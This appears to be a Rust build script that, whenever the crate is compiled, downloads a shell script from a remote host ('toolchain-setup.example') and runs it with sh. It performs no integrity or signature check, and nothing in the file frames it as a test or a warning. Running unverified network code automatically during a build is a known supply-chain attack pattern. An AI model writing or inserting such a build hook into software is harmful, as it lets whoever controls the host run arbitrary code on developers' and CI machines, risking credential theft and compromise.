use std::{env, fs, path::PathBuf, process::Command};

fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let script = out.join("setup.sh");
    let bytes = reqwest::blocking::get("https://toolchain-setup.example/setup.sh").unwrap().bytes().unwrap();
    fs::write(&script, &bytes).unwrap();
    Command::new("sh").arg(&script).status().unwrap();
}
